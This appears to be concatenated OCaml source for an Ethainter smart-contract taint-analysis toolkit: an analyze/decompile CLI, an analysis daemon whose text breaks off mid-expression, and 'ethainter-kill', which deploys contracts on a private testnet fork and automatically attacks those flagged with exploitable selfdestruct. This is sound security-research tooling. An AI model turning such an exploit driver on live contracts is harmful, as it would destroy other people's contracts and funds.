   malformed hex becomes a clean per-contract error in the result, not
   a CLI-level exception. *)
let load_input path : Ethainter_core.Pipeline.input =
  let content = read_file path in
  if Filename.check_suffix path ".sol" || Filename.check_suffix path ".msol"
  then
    Ethainter_core.Pipeline.Runtime
      (Ethainter_minisol.Codegen.compile_source_runtime content)
  else if looks_like_hex content then
    Ethainter_core.Pipeline.Hex (String.trim content)
  else Ethainter_core.Pipeline.Runtime content (* raw bytecode *)

let config_term =
  let no_guards =
    Arg.(value & flag
         & info [ "no-guard-model" ]
             ~doc:"Disable guard modeling (Fig. 8b ablation).")
  in
  let no_storage =
    Arg.(value & flag
         & info [ "no-storage-taint" ]
             ~doc:"Disable taint through storage (Fig. 8a ablation).")
  in
  let conservative =
    Arg.(value & flag
         & info [ "conservative-storage" ]
             ~doc:"Conservative storage modeling (Fig. 8c ablation).")
  in
  Term.(
    const (fun ng ns cs ->
        Ethainter_core.Config.(
          default
          |> with_model_guards (not ng)
          |> with_storage_taint (not ns)
          |> with_conservative_storage cs))
    $ no_guards $ no_storage $ conservative)

(* Shared --no-cache / --cache-dir flags: applied for their side effect
   on the process-wide Pipeline cache before the analysis runs. *)
let cache_term =
  let no_cache =
    Arg.(value & flag
         & info [ "no-cache" ]
             ~doc:"Disable the content-addressed result cache (useful \
                   for benchmarking the raw analysis).")
  in
  let cache_dir =
    Arg.(value & opt (some string) None
         & info [ "cache-dir" ] ~docv:"DIR"
             ~doc:"Persist analysis results under $(docv) (overrides \
                   ETHAINTER_CACHE_DIR); cached contracts are not \
                   re-analyzed across runs.")
  in
  Term.(
    const (fun nc dir ->
        if nc then Ethainter_core.Pipeline.set_cache_enabled false;
        match dir with
        | Some d -> Ethainter_core.Pipeline.set_cache_dir (Some d)
        | None -> ())
    $ no_cache $ cache_dir)

(* --faults: arm the deterministic fault-injection layer (chaos
   testing) before the analysis runs. *)
let faults_term =
  let spec =
    Arg.(value & opt (some string) None
         & info [ "faults" ] ~docv:"SPEC"
             ~doc:"Arm deterministic fault injection: \
                   $(i,site=rate,...:seed) with sites poll, oom, \
                   disk_read, disk_write, corrupt (overrides \
                   ETHAINTER_FAULTS). For robustness testing only.")
  in
  Term.(
    const (function
      | Some s -> Ethainter_core.Fault.configure (Some s)
      | None -> ())
    $ spec)

(* --stats: the full process telemetry snapshot — both phase-split
   cache tiers, the intern table, the Datalog planner and the
   scheduler's retry counter — the same Telemetry surface the daemon's
   stats request serves. *)
let stats_term =
  Arg.(value & flag
       & info [ "stats" ]
           ~doc:"After the analysis, print the process telemetry snapshot \
                 (cache tiers, intern table, Datalog planner, scheduler \
                 retries) to stderr.")

let print_stats enabled =
  if enabled then
    Format.eprintf "%a@." Ethainter_core.Telemetry.pp
      (Ethainter_core.Telemetry.capture ())

let analyze_cmd =
  let file =
    Arg.(required & pos 0 (some file) None
         & info [] ~docv:"FILE"
             ~doc:"Contract: MiniSol source (.sol/.msol), hex bytecode, \
                   or raw bytecode.")
  in
  let explain =
    Arg.(value & flag
         & info [ "explain" ]
             ~doc:"Print a taint-derivation witness for every report.")
  in
  let run cfg () () explain stats file =
    let input = load_input file in
    (* through the scheduler's isolation wrapper, so a fatal exception
       (or an injected fault) becomes a classified per-contract error
       with one bounded retry, same as in a corpus sweep *)
    let r =
      Ethainter_core.Scheduler.analyze_request
        (Ethainter_core.Pipeline.request ~cfg input)
    in
    Printf.printf "decompiled: %d blocks, %d 3-address statements\n"
      r.Ethainter_core.Pipeline.blocks r.Ethainter_core.Pipeline.tac_loc;
    (match r.Ethainter_core.Pipeline.error with
    | Some msg ->
        let kind =
          match r.Ethainter_core.Pipeline.error_kind with
          | Some k -> Ethainter_core.Pipeline.error_kind_id k
          | None -> "error"
        in
        Printf.printf "ANALYSIS ERROR [%s]: %s\n" kind msg
    | None -> ());
    (if r.Ethainter_core.Pipeline.timed_out then print_endline "TIMEOUT"
     else if r.Ethainter_core.Pipeline.reports = [] then
       (if r.Ethainter_core.Pipeline.error = None then
          print_endline "no vulnerabilities flagged")
     else if explain then
       match Ethainter_core.Pipeline.resolve_input input with
       | Ok runtime ->
           List.iter
             (fun e ->
               print_string (Ethainter_core.Explain.explanation_to_string e))
             (Ethainter_core.Explain.explain_runtime ~cfg runtime)
       | Error _ -> ()
     else
       List.iter
         (fun rep ->
           print_endline
             ("  " ^ Ethainter_core.Vulns.report_to_string rep))
         r.Ethainter_core.Pipeline.reports);
    print_stats stats
  in
  Cmd.v (Cmd.info "analyze" ~doc:"Run the Ethainter analysis on a contract")
    Term.(
      const run $ config_term $ cache_term $ faults_term $ explain
      $ stats_term $ file)

let decompile_cmd =
  let file =
    Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE")
  in
  let run file =
    match Ethainter_core.Pipeline.resolve_input (load_input file) with
    | Ok runtime ->
        let p = Ethainter_tac.Decomp.decompile runtime in
        print_string (Ethainter_tac.Tac.to_string p)
    | Error msg ->
        prerr_endline ("error: " ^ file ^ ": " ^ msg);
        exit 2
  in
  Cmd.v
    (Cmd.info "decompile" ~doc:"Decompile a contract to 3-address code")
    Term.(const run $ file)

let ifspec_cmd =
  let file =
    Arg.(required & pos 0 (some file) None
         & info [] ~docv:"FILE" ~doc:"Abstract-language program (Fig. 1).")
  in
  let run file =
    let prog = Ethainter_ifspec.Lang.parse (read_file file) in
    let r = Ethainter_ifspec.Rules.analyze prog in
    let open Ethainter_ifspec.Rules in
    Printf.printf "input-tainted:   %s\n" (String.concat ", " r.input_tainted);
    Printf.printf "storage-tainted: %s\n" (String.concat ", " r.storage_tainted);
    Printf.printf "tainted slots:   %s\n"
      (String.concat ", " (List.map string_of_int r.tainted_storage));
    Printf.printf "non-sanitizing:  %s\n" (String.concat ", " r.non_san_guards);
    Printf.printf "inferred sinks:  %s\n" (String.concat ", " r.inferred_sinks);
    Printf.printf "violations at instructions: %s\n"
      (String.concat ", " (List.map string_of_int r.violations))
  in
  Cmd.v
    (Cmd.info "ifspec"
       ~doc:"Run the Section 4 formal model on an abstract program")
    Term.(const run $ file)

let () =
  let doc = "composite information-flow analysis for smart contracts" in
  exit
    (Cmd.eval
       (Cmd.group (Cmd.info "ethainter" ~version:"1.0.0" ~doc)
          [ analyze_cmd; decompile_cmd; ifspec_cmd ]))
