(* Ethainter-Kill as a standalone tool (§6.1).

   Spins up a private testnet fork, deploys the given contract(s), runs
   Ethainter, and attempts automated destruction of everything flagged
   with an accessible/tainted selfdestruct — verifying success against
   the VM instruction trace. *)

open Cmdliner
module U = Ethainter_word.Uint256
module T = Ethainter_chain.Testnet

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let load_deploy path =
  let content = read_file path in
  if Filename.check_suffix path ".sol" || Filename.check_suffix path ".msol"
  then Ethainter_minisol.Codegen.compile_source content
  else Ethainter_word.Hex.decode (String.trim content)

let run rounds files =
  let net = T.create ~name:"kill-fork" () in
  let deployer = T.account_of_seed "deployer" in
  let attacker = T.account_of_seed "attacker" in
  T.fund_account net deployer (U.of_string "0xffffffffffffffff");
  T.fund_account net attacker (U.of_string "0xffffffffffffffff");
  let targets =
    List.filter_map
      (fun file ->
        let r = T.deploy net ~from:deployer (load_deploy file) in
        match r.T.created with
        | None ->
            Printf.printf "%-40s deployment failed\n" file;
            None
        | Some addr ->
            let runtime = Ethainter_evm.State.code (T.state net) addr in
            let res =
              Ethainter_core.Scheduler.analyze_request
                (Ethainter_core.Pipeline.request
                   (Ethainter_core.Pipeline.Runtime runtime))
            in
            Printf.printf "%-40s deployed at %s, %d report(s)\n" file
              (U.to_hex addr)
              (List.length res.Ethainter_core.Pipeline.reports);
            Some (file, addr, res.Ethainter_core.Pipeline.reports))
      files
  in
  List.iter
    (fun (file, addr, reports) ->
      let a =
        Ethainter_kill.Kill.attack ~rounds net ~attacker ~victim:addr reports
      in
      Printf.printf "%-40s %s (%d txs)\n" file
        (Ethainter_kill.Kill.outcome_to_string a.Ethainter_kill.Kill.a_outcome)
        a.Ethainter_kill.Kill.a_txs_sent)
    targets

let () =
  let files =
    Arg.(non_empty & pos_all file [] & info [] ~docv:"CONTRACT"
         ~doc:"MiniSol sources or hex deployment bytecode files.")
  in
  let rounds =
    Arg.(value & opt int 4
         & info [ "rounds" ] ~doc:"Escalation rounds of selector sweeps.")
  in
  let cmd =
    Cmd.v
      (Cmd.info "ethainter-kill" ~version:"1.0.0"
         ~doc:"automatically exploit selfdestruct vulnerabilities on a \
               private fork")
      Term.(const run $ rounds $ files)
  in
  exit (Cmd.eval cmd)
