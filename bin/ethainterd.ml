(* ethainterd — the analysis-as-a-service daemon.

   Serves Pipeline analysis requests over the length-prefixed binary
   protocol (lib/serve) from a Unix-domain socket (--socket PATH) or
   stdin/stdout (--stdio), multiplexing them onto a persistent domain
   pool with a bounded admission queue. The intern table, compiled
   Datalog plans and both phase-split cache tiers stay warm across
   requests for the life of the process.

   --selftest runs a one-request smoke cycle against an in-process
   server (no socket, no network) and exits nonzero on any failure —
   usable as a container healthcheck. *)

open Cmdliner
module P = Ethainter_core.Pipeline
module Serve = Ethainter_serve.Server
module Client = Ethainter_serve.Client
module Proto = Ethainter_serve.Proto

(* ------------------------------------------------------------------ *)
(* Selftest                                                            *)
(* ------------------------------------------------------------------ *)

(* PUSH1 0; PUSH1 0; RETURN — the smallest runtime bytecode the whole
   pipeline (decompile, facts, fixpoint, detectors) accepts cleanly. *)
let selftest_hex = "60006000f3"

let fail_selftest fmt =
  Printf.ksprintf
    (fun msg ->
      prerr_endline ("ethainterd selftest: FAIL: " ^ msg);
      exit 1)
    fmt

let selftest ~workers ~queue_depth ~timeout_s () =
  let server = Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s () in
  let a, b = Unix.socketpair Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  let reader = Thread.create (fun () -> Serve.serve_connection server a) () in
  let client = Client.of_fd b in
  (if not (Client.ping client) then fail_selftest "no pong");
  (match Client.analyze client ~hex:selftest_hex () with
  | Client.Result r ->
      if r.P.error <> None then
        fail_selftest "analysis error: %s"
          (match r.P.error with Some e -> e | None -> "")
  | Client.Error e -> fail_selftest "protocol error: %s" (Proto.error_code e)
  | _ -> fail_selftest "unexpected response to analyze");
  (* the warm-state claim, one request deep: an identical request must
     be answered from the back-end cache *)
  (match Client.analyze client ~hex:selftest_hex () with
  | Client.Result r when r.P.error = None -> ()
  | _ -> fail_selftest "repeat analyze failed");
  let st = Client.stats client in
  let get k =
    match List.assoc_opt k st with
    | Some v -> v
    | None -> fail_selftest "stats missing %s" k
  in
  if get "cache_be_hits" < 1.0 then
    fail_selftest "repeat request missed the back-end cache";
  if get "served_ok" < 2.0 then fail_selftest "served_ok < 2";
  Client.close client;
  (* join before closing [a]: the reader owns the fd until
     serve_connection returns (having drained in-flight jobs) *)
  (try Thread.join reader with _ -> ());
  (try Unix.close a with _ -> ());
  Serve.stop server;
  print_endline "ethainterd selftest: OK";
  exit 0

(* ------------------------------------------------------------------ *)
(* CLI                                                                 *)
(* ------------------------------------------------------------------ *)

let cache_term =
  let no_cache =
    Arg.(value & flag
         & info [ "no-cache" ]
             ~doc:"Disable the content-addressed analysis cache (every \
                   request recomputes).")
  in
  let cache_dir =
    Arg.(value & opt (some string) None
         & info [ "cache-dir" ] ~docv:"DIR"
             ~doc:"Persist analysis results under $(docv) (overrides \
                   ETHAINTER_CACHE_DIR), so a restarted daemon starts \
                   disk-warm.")
  in
  Term.(
    const (fun nc dir ->
        if nc then P.set_cache_enabled false;
        match dir with
        | Some d -> P.set_cache_dir (Some d)
        | None -> ())
    $ no_cache $ cache_dir)

let faults_term =
  let spec =
    Arg.(value & opt (some string) None
         & info [ "faults" ] ~docv:"SPEC"
             ~doc:"Arm deterministic fault injection \
                   ($(i,site=rate,...:seed), overrides ETHAINTER_FAULTS). \
                   For robustness testing only.")
  in
  Term.(
    const (function
      | Some s -> Ethainter_core.Fault.configure (Some s)
      | None -> ())
    $ spec)

let run socket stdio workers queue_depth timeout_s selftest_flag () () =
  if selftest_flag then selftest ~workers ~queue_depth ~timeout_s ();
  match (socket, stdio) with
  | None, false ->
      prerr_endline
        "ethainterd: one of --socket PATH, --stdio or --selftest is required";
      exit 2
  | Some _, true ->
      prerr_endline "ethainterd: --socket and --stdio are exclusive";
      exit 2
  | Some path, false ->
      let server =
        Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s ()
      in
      (* a client hanging up mid-response must not kill the daemon *)
      (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with _ -> ());
      (* the handler runs at a safe point on an arbitrary thread — one
         that may hold the very mutex a full shutdown would take, so
         it must only flag and wake (request_stop); the joins happen
         below, on the main thread, after the serve loop returns *)
      let on_signal _ = Serve.request_stop server in
      (try Sys.set_signal Sys.sigint (Sys.Signal_handle on_signal)
       with _ -> ());
      (try Sys.set_signal Sys.sigterm (Sys.Signal_handle on_signal)
       with _ -> ());
      Printf.eprintf "ethainterd: listening on %s (queue depth %d)\n%!" path
        queue_depth;
      Serve.serve_unix_socket server ~path;
      Serve.stop server
  | None, true ->
      let server =
        Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s ()
      in
      (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with _ -> ());
      Serve.serve_stdio server;
      Serve.stop server

let main =
  let socket =
    Arg.(value & opt (some string) None
         & info [ "socket" ] ~docv:"PATH"
             ~doc:"Listen on a Unix-domain socket at $(docv) (an existing \
                   socket file is replaced).")
  in
  let stdio =
    Arg.(value & flag
         & info [ "stdio" ]
             ~doc:"Serve a single connection over stdin/stdout (one frame \
                   stream; exits at EOF).")
  in
  let workers =
    Arg.(value & opt (some int) None
         & info [ "workers" ] ~docv:"N"
             ~doc:"Analysis worker domains (default: ETHAINTER_WORKERS or \
                   the machine's recommended domain count).")
  in
  let queue_depth =
    Arg.(value & opt int 64
         & info [ "queue-depth" ] ~docv:"N"
             ~doc:"Admission-control bound: requests arriving while $(docv) \
                   jobs are queued are refused immediately with the \
                   $(i,overloaded) protocol error instead of queueing \
                   unboundedly.")
  in
  let timeout_s =
    Arg.(value & opt float 120.0
         & info [ "timeout" ] ~docv:"SECONDS"
             ~doc:"Per-request deadline cap (requests asking for more are \
                   clamped). The paper's combined cutoff is 120 s.")
  in
  let selftest =
    Arg.(value & flag
         & info [ "selftest" ]
             ~doc:"Run a one-request smoke cycle against an in-process \
                   server and exit (0 on success) — a healthcheck.")
  in
  let doc = "Ethainter analysis-as-a-service daemon" in
  Cmd.v
    (Cmd.info "ethainterd" ~version:"1.0.0" ~doc)
    Term.(
      const run $ socket $ stdio $ workers $ queue_depth $ timeout_s
      $ selftest $ cache_term $ faults_term)

let () = exit (Cmd.eval main)
