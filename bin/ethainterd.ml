(* ethainterd — the analysis-as-a-service daemon.

   Serves Pipeline analysis requests over the length-prefixed binary
   protocol (lib/serve) from a Unix-domain socket (--socket PATH) or
   stdin/stdout (--stdio), multiplexing them onto a persistent domain
   pool with a bounded admission queue. The intern table, compiled
   Datalog plans and both phase-split cache tiers stay warm across
   requests for the life of the process.

   --watch additionally attaches a streaming analysis index (lib/index)
   fed by an in-process chain simulator under a continuous synthetic
   deploy/rotate/destroy workload; clients query per-contract verdicts
   with the watch request and the index's counters with index-stats.
   Index re-analyses run on the same worker pool and admission queue
   as client requests. --journal-dir makes the index durable: verdicts
   survive a crash or kill and are recovered (not recomputed) at the
   next start; shutdown writes a clean final checkpoint.

   The health request reports Ready / Degraded (open quarantine
   breakers, degraded disk cache, journal write failures) / Draining
   for supervisors and load balancers.

   --selftest runs a smoke cycle against an in-process server (no
   socket, no network) — analysis, stats, health, a watch-mode
   attach/lookup/detach round, and a durable-index close/recover
   roundtrip — and exits nonzero on any failure: usable as a container
   healthcheck. *)

open Cmdliner
module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module Serve = Ethainter_serve.Server
module Client = Ethainter_serve.Client
module Proto = Ethainter_serve.Proto
module T = Ethainter_chain.Testnet
module Idx = Ethainter_index.Index

(* ------------------------------------------------------------------ *)
(* Watch mode                                                          *)
(* ------------------------------------------------------------------ *)

let watch_status_of : Idx.status -> Proto.watch_status = function
  | Idx.Unknown -> Proto.Watch_unknown
  | Idx.Pending b -> Proto.Watch_pending b
  | Idx.Destroyed -> Proto.Watch_destroyed
  | Idx.Quarantined n -> Proto.Watch_quarantined n
  | Idx.Indexed v ->
      Proto.Watch_indexed
        { wi_deployed = v.Idx.v_deployed_block;
          wi_indexed = v.Idx.v_indexed_block;
          wi_result = v.Idx.v_result }

let index_handlers idx =
  { Serve.h_watch =
      (fun addr_hex ->
        match U.of_hex (String.trim addr_hex) with
        | addr -> watch_status_of (Idx.lookup idx addr)
        | exception _ -> Proto.Watch_unknown);
    Serve.h_index_stats = (fun () -> Idx.stats idx) }

(* One contract per tag, each with a distinct constant baked into its
   runtime so bytecodes (and cache keys) never collide; the owner slot
   is the only storage its guards read, so rotating it is exactly the
   dependency write the index must chase. *)
let watch_source tag =
  Printf.sprintf
    {|contract Watched {
  address owner;
  constructor() { owner = msg.sender; }
  function tag() public returns (uint256) { return %d; }
  function setOwner(address o) public {
    require(msg.sender == owner);
    owner = o;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    tag

(* Attach a streaming index (on the server's own pool) to a fresh chain
   simulator and drive a rolling synthetic workload — each tick deploys
   a contract, rotates an existing contract's admin key, and, once the
   fleet is large enough, destroys the oldest — until the server stops.
   Returns the joinable driver thread.

   With [journal_dir] the index is durable: it recovers the previous
   run's verdicts from the journal, then the chain is advanced to the
   persisted cursor so the fresh simulator's block numbers continue
   where the dead process stopped (blocks sealed during the advance
   are below the cursor and ignored by the index's monotonic guard).
   Shutdown goes through [Idx.close] for a clean final checkpoint. *)
let start_watch ?(tick_s = 0.25) ?(fleet_cap = 24) ?journal_dir server =
  let net = T.create ~name:"watch" () in
  let deployer = T.account_of_seed "watch-deployer" in
  T.fund_account net deployer (U.of_string "0xffffffffffffffffffffffff");
  let idx =
    match journal_dir with
    | None -> Idx.create ~pool:(Serve.pool server) net
    | Some dir ->
        let idx = Idx.recover ~pool:(Serve.pool server) ~journal_dir:dir net in
        T.advance_to_block net (Idx.last_block idx);
        Printf.eprintf
          "ethainterd: recovered index from %s (cursor %d, %d contracts)\n%!"
          dir (Idx.last_block idx)
          (List.length (Idx.contents idx));
        idx
  in
  Serve.set_index_handlers server (Some (index_handlers idx));
  Thread.create
    (fun () ->
      let fleet = Queue.create () in
      let k = ref 0 in
      while not (Serve.stopped server) do
        (try
           let initcode =
             Ethainter_minisol.Codegen.compile_source
               (watch_source (1000 + !k))
           in
           (match (T.deploy net ~from:deployer initcode).T.created with
           | Some addr ->
               Queue.push (addr, ref deployer) fleet;
               Printf.eprintf "ethainterd: watch block %d deployed %s\n%!"
                 (T.block_number net) (U.to_hex addr)
           | None -> ());
           (* rotate a mid-fleet admin key: a dependency write that
              invalidates exactly that contract's verdict *)
           (if Queue.length fleet > 1 then
              let arr = Array.of_seq (Queue.to_seq fleet) in
              let addr, owner = arr.(!k mod Array.length arr) in
              let next =
                T.account_of_seed (Printf.sprintf "watch-owner-%d" !k)
              in
              T.fund_account net next (U.of_string "0xffffffff");
              if
                T.succeeded
                  (T.call_fn net ~from:!owner ~to_:addr "setOwner(address)"
                     [ next ])
              then owner := next);
           if Queue.length fleet > fleet_cap then begin
             let addr, owner = Queue.pop fleet in
             ignore (T.call_fn net ~from:!owner ~to_:addr "kill()" [])
           end
         with _ -> ());
        incr k;
        (* sleep in short slices so shutdown is prompt *)
        let slept = ref 0.0 in
        while !slept < tick_s && not (Serve.stopped server) do
          Thread.delay 0.05;
          slept := !slept +. 0.05
        done
      done;
      (* close = detach + drain (+ final checkpoint when journaled);
         for an ephemeral index it degrades to exactly the old detach
         semantics *)
      Idx.close idx)
    ()

(* ------------------------------------------------------------------ *)
(* Selftest                                                            *)
(* ------------------------------------------------------------------ *)

(* PUSH1 0; PUSH1 0; RETURN — the smallest runtime bytecode the whole
   pipeline (decompile, facts, fixpoint, detectors) accepts cleanly. *)
let selftest_hex = "60006000f3"

let fail_selftest fmt =
  Printf.ksprintf
    (fun msg ->
      prerr_endline ("ethainterd selftest: FAIL: " ^ msg);
      exit 1)
    fmt

let selftest ~workers ~queue_depth ~timeout_s () =
  let server = Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s () in
  let a, b = Unix.socketpair Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  let reader = Thread.create (fun () -> Serve.serve_connection server a) () in
  let client = Client.of_fd b in
  (if not (Client.ping client) then fail_selftest "no pong");
  (match Client.health client with
  | Proto.Ready -> ()
  | Proto.Degraded r -> fail_selftest "daemon degraded at startup: %s" r
  | Proto.Draining -> fail_selftest "daemon draining at startup");
  (match Client.analyze client ~hex:selftest_hex () with
  | Client.Result r ->
      if r.P.error <> None then
        fail_selftest "analysis error: %s"
          (match r.P.error with Some e -> e | None -> "")
  | Client.Error e -> fail_selftest "protocol error: %s" (Proto.error_code e)
  | _ -> fail_selftest "unexpected response to analyze");
  (* the warm-state claim, one request deep: an identical request must
     be answered from the back-end cache *)
  (match Client.analyze client ~hex:selftest_hex () with
  | Client.Result r when r.P.error = None -> ()
  | _ -> fail_selftest "repeat analyze failed");
  let st = Client.stats client in
  let get k =
    match List.assoc_opt k st with
    | Some v -> v
    | None -> fail_selftest "stats missing %s" k
  in
  if get "cache_be_hits" < 1.0 then
    fail_selftest "repeat request missed the back-end cache";
  if get "served_ok" < 2.0 then fail_selftest "served_ok < 2";
  (* watch-mode smoke cycle: refused before an index is attached,
     end-to-end verdict lookup after *)
  (match Client.watch client ~addr_hex:"0xdead" with
  | Client.Error (Proto.Malformed _) -> ()
  | _ -> fail_selftest "watch without an index was not refused");
  let net = T.create ~name:"selftest" () in
  let deployer = T.account_of_seed "selftest-deployer" in
  T.fund_account net deployer (U.of_string "0xffffffffffffffff");
  let idx = Idx.create ~pool:(Serve.pool server) net in
  Serve.set_index_handlers server (Some (index_handlers idx));
  let addr =
    match
      (T.deploy_runtime net ~from:deployer
         (Ethainter_word.Hex.decode selftest_hex))
        .T.created
    with
    | Some a -> a
    | None -> fail_selftest "watch deployment failed"
  in
  Idx.drain idx;
  (match Client.watch client ~addr_hex:(U.to_hex addr) with
  | Client.Watch (Proto.Watch_indexed w) ->
      if w.wi_result.P.error <> None then
        fail_selftest "watched verdict carries an error"
  | _ -> fail_selftest "watch did not return an indexed verdict");
  (match
     Client.watch client ~addr_hex:(U.to_hex (T.account_of_seed "nobody"))
   with
  | Client.Watch Proto.Watch_unknown -> ()
  | _ -> fail_selftest "unknown address did not answer Watch_unknown");
  (match Client.index_stats client with
  | Ok st when (match List.assoc_opt "index_contracts" st with
               | Some v -> v >= 1.0
               | None -> false) -> ()
  | Ok _ -> fail_selftest "index stats missing index_contracts >= 1"
  | Stdlib.Error e ->
      fail_selftest "index_stats refused: %s" (Proto.error_code e));
  Idx.detach idx;
  (* durable-index roundtrip: deploy + analyze under a journal, close
     (final checkpoint), recover into a second instance and verify the
     verdict is served from disk with zero re-analysis *)
  let jdir =
    Filename.concat
      (Filename.get_temp_dir_name ())
      (Printf.sprintf "ethainterd-selftest-journal-%d" (Unix.getpid ()))
  in
  let jnet = T.create ~name:"selftest-journal" () in
  let jdep = T.account_of_seed "selftest-journal-deployer" in
  T.fund_account jnet jdep (U.of_string "0xffffffffffffffff");
  let jidx = Idx.recover ~journal_dir:jdir jnet in
  let jaddr =
    match
      (T.deploy_runtime jnet ~from:jdep
         (Ethainter_word.Hex.decode selftest_hex))
        .T.created
    with
    | Some a -> a
    | None -> fail_selftest "journal deployment failed"
  in
  Idx.drain jidx;
  Idx.close jidx;
  let jnet2 = T.create ~name:"selftest-journal-2" () in
  let jidx2 = Idx.recover ~journal_dir:jdir jnet2 in
  (match Idx.lookup jidx2 jaddr with
  | Idx.Indexed v ->
      if v.Idx.v_result.P.error <> None then
        fail_selftest "recovered verdict carries an error"
  | _ -> fail_selftest "recovery did not restore the indexed verdict");
  let jst = Idx.stats jidx2 in
  let jget k =
    match List.assoc_opt k jst with
    | Some v -> v
    | None -> fail_selftest "recovered index stats missing %s" k
  in
  if jget "index_recovered_verdicts" < 1.0 then
    fail_selftest "no verdict counted as recovered";
  if jget "index_analyses" > 0.0 then
    fail_selftest "recovery recomputed a clean contract";
  Idx.close jidx2;
  (match Sys.readdir jdir with
  | files ->
      Array.iter
        (fun f -> try Sys.remove (Filename.concat jdir f) with _ -> ())
        files
  | exception _ -> ());
  (try Unix.rmdir jdir with _ -> ());
  Client.close client;
  (* join before closing [a]: the reader owns the fd until
     serve_connection returns (having drained in-flight jobs) *)
  (try Thread.join reader with _ -> ());
  (try Unix.close a with _ -> ());
  Serve.stop server;
  print_endline "ethainterd selftest: OK";
  exit 0

(* ------------------------------------------------------------------ *)
(* CLI                                                                 *)
(* ------------------------------------------------------------------ *)

let cache_term =
  let no_cache =
    Arg.(value & flag
         & info [ "no-cache" ]
             ~doc:"Disable the content-addressed analysis cache (every \
                   request recomputes).")
  in
  let cache_dir =
    Arg.(value & opt (some string) None
         & info [ "cache-dir" ] ~docv:"DIR"
             ~doc:"Persist analysis results under $(docv) (overrides \
                   ETHAINTER_CACHE_DIR), so a restarted daemon starts \
                   disk-warm.")
  in
  Term.(
    const (fun nc dir ->
        if nc then P.set_cache_enabled false;
        match dir with
        | Some d -> P.set_cache_dir (Some d)
        | None -> ())
    $ no_cache $ cache_dir)

let faults_term =
  let spec =
    Arg.(value & opt (some string) None
         & info [ "faults" ] ~docv:"SPEC"
             ~doc:"Arm deterministic fault injection \
                   ($(i,site=rate,...:seed), overrides ETHAINTER_FAULTS). \
                   For robustness testing only.")
  in
  Term.(
    const (function
      | Some s -> Ethainter_core.Fault.configure (Some s)
      | None -> ())
    $ spec)

let run socket stdio workers queue_depth timeout_s watch journal_dir
    selftest_flag () () =
  if selftest_flag then selftest ~workers ~queue_depth ~timeout_s ();
  if journal_dir <> None && not watch then begin
    prerr_endline "ethainterd: --journal-dir requires --watch";
    exit 2
  end;
  match (socket, stdio) with
  | None, false ->
      prerr_endline
        "ethainterd: one of --socket PATH, --stdio or --selftest is required";
      exit 2
  | Some _, true ->
      prerr_endline "ethainterd: --socket and --stdio are exclusive";
      exit 2
  | Some path, false ->
      let server =
        Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s ()
      in
      let driver =
        if watch then Some (start_watch ?journal_dir server) else None
      in
      (* a client hanging up mid-response must not kill the daemon *)
      (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with _ -> ());
      (* the handler runs at a safe point on an arbitrary thread — one
         that may hold the very mutex a full shutdown would take, so
         it must only flag and wake (request_stop); the joins happen
         below, on the main thread, after the serve loop returns *)
      let on_signal _ = Serve.request_stop server in
      (try Sys.set_signal Sys.sigint (Sys.Signal_handle on_signal)
       with _ -> ());
      (try Sys.set_signal Sys.sigterm (Sys.Signal_handle on_signal)
       with _ -> ());
      Printf.eprintf "ethainterd: listening on %s (queue depth %d%s)\n%!" path
        queue_depth (if watch then ", watch mode" else "");
      Serve.serve_unix_socket server ~path;
      Serve.stop server;
      (* the driver observes the stopped flag; index job submissions
         refused by the drained pool fall back to running inline on the
         driver thread, so the join is bounded *)
      (match driver with
      | Some d -> (try Thread.join d with _ -> ())
      | None -> ())
  | None, true ->
      let server =
        Serve.create ?workers ~queue_depth ~default_timeout_s:timeout_s ()
      in
      let driver =
        if watch then Some (start_watch ?journal_dir server) else None
      in
      (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with _ -> ());
      Serve.serve_stdio server;
      Serve.stop server;
      (match driver with
      | Some d -> (try Thread.join d with _ -> ())
      | None -> ())

let main =
  let socket =
    Arg.(value & opt (some string) None
         & info [ "socket" ] ~docv:"PATH"
             ~doc:"Listen on a Unix-domain socket at $(docv) (an existing \
                   socket file is replaced).")
  in
  let stdio =
    Arg.(value & flag
         & info [ "stdio" ]
             ~doc:"Serve a single connection over stdin/stdout (one frame \
                   stream; exits at EOF).")
  in
  let workers =
    Arg.(value & opt (some int) None
         & info [ "workers" ] ~docv:"N"
             ~doc:"Analysis worker domains (default: ETHAINTER_WORKERS or \
                   the machine's recommended domain count).")
  in
  let queue_depth =
    Arg.(value & opt int 64
         & info [ "queue-depth" ] ~docv:"N"
             ~doc:"Admission-control bound: requests arriving while $(docv) \
                   jobs are queued are refused immediately with the \
                   $(i,overloaded) protocol error instead of queueing \
                   unboundedly.")
  in
  let timeout_s =
    Arg.(value & opt float 120.0
         & info [ "timeout" ] ~docv:"SECONDS"
             ~doc:"Per-request deadline cap (requests asking for more are \
                   clamped). The paper's combined cutoff is 120 s.")
  in
  let watch =
    Arg.(value & flag
         & info [ "watch" ]
             ~doc:"Attach a streaming analysis index fed by an in-process \
                   chain simulator under a continuous synthetic workload; \
                   serve per-contract verdicts via the watch request and \
                   index counters via index-stats.")
  in
  let journal_dir =
    Arg.(value & opt (some string) None
         & info [ "journal-dir" ] ~docv:"DIR"
             ~doc:"Make the $(b,--watch) index durable: journal every block \
                   observation and verdict under $(docv) (write-ahead log + \
                   periodic checkpoints), recover the previous run's \
                   verdicts at startup, and write a clean final checkpoint \
                   on shutdown. A killed daemon restarted with the same \
                   $(docv) re-analyzes only contracts dirty at the crash.")
  in
  let selftest =
    Arg.(value & flag
         & info [ "selftest" ]
             ~doc:"Run a smoke cycle (analysis, stats, watch-mode \
                   attach/lookup/detach) against an in-process server and \
                   exit (0 on success) — a healthcheck.")
  in
  let doc = "Ethainter analysis-as-a-service daemon" in
  Cmd.v
    (Cmd.info "ethainterd" ~version:"1.0.0" ~doc)
    Term.(
